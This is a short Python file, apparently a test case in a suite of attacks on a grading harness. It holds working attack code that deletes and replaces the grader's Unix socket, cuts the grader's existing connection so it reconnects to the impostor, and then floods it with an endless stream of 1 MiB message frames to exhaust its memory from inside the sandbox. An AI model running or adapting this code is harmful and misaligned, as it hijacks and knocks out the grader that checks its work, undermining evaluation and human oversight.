"""In the place of the kernel's socket, a server sends one message of endless parts to the grader.

No queue counts the parts of one message. The grader's memory must not fill up: the sandbox must
be ended from outside.
"""


def attack(client, given):
    import os
    import socket
    import struct

    greeting = b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
    about = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 3) + b"PUB"
    part = b"\x03" + struct.pack(">Q", 1024**2) + b"x" * 1024**2  # a long frame, more follow
    os.unlink("/dy/k-2")
    server = socket.socket(socket.AF_UNIX)
    server.bind("/dy/k-2")
    os.chmod("/dy/k-2", 0o777)
    server.listen()
    for name in os.listdir("/proc/self/fd"):
        try:
            old = socket.socket(fileno=os.dup(int(name)))
            old.getpeername()
            if old.getsockname() == "/dy/k-2":
                old.shutdown(socket.SHUT_RDWR)  # the grader's end connects anew, to us
        except OSError:
            continue
    line = server.accept()[0]
    line.sendall(greeting + b"\x04" + bytes([len(about)]) + about)
    while True:
        line.sendall(part)


status = "did not run"
says = "in the grader"
